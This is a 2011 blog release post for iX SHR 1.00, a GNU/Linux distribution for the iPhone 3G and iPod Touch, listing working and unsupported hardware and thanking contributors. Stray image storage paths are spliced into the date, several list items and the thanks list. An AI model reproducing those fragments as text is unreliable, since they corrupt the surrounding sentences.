Tuesday, January 18,2011

iX SHR 1.00 Release

Hey folks,

It has been awhile since I have made a blog post. iX went through some serious changes. I recently switched domains and hosts. The good news is this is a release post. I'll start by listing what hardware is functional in iX. To be clear, iX aims to provide an X11 based GNU/Linux distribution for Apple's iDevices. We currently support the iPhone3G and IPT1G. Although, the iPhone2G can run iX as well.

What works:

1.) CPU
2.) USB
3.) NOR
4.) NAND5.) LCD
6.) WLAN - Scans properly with interfaces file configured correctly.
7.) Audio - Speakers and headphones.
8.) GPU - Framebuffer only, no acceleration.
9.) TouchscreenWhat doesn't work:

1.) Baseband (Voice) - Work in progress (Texts and Phone calls).
Ultrasn0w unlock and wildcard unlock must be ported to fsogsmd from
iDroid ril source.
2.) Accelerometer - Works, but requires restarting Xorg. Need to
implement rotation without restarting Xorg.
3.) Bluetooth
4.) Baseband (Data/3G)5.) PMU - Partially implemented at the kernel level. Need to implement
in SHR. Suspend/Resume works in iDroid (Android).
6.) Camera
7.) Multi-touch

I hope everyone likes the release as I worked very hard on it. Unfortunately, I didn't have time to make another video. You can refer to my previous one here:

For support, please visit and post in the support section for iX in the forums. You can also get support on irc on the following server: channel: #iX


Thanks to (in no order of importance): planetbeing, nickp666, ricky26, CPICH, Bluerise, Neonkoala, ddominator, alex, kleemajo, Popple3, eggy, rekoil, James,iKex, GNUtoo, ALoGeNo, lilstevie, andanyone else who helped me. Sorry if I missedsomeone.

Follow the instructions in the read me. I hope everyone enjoys it!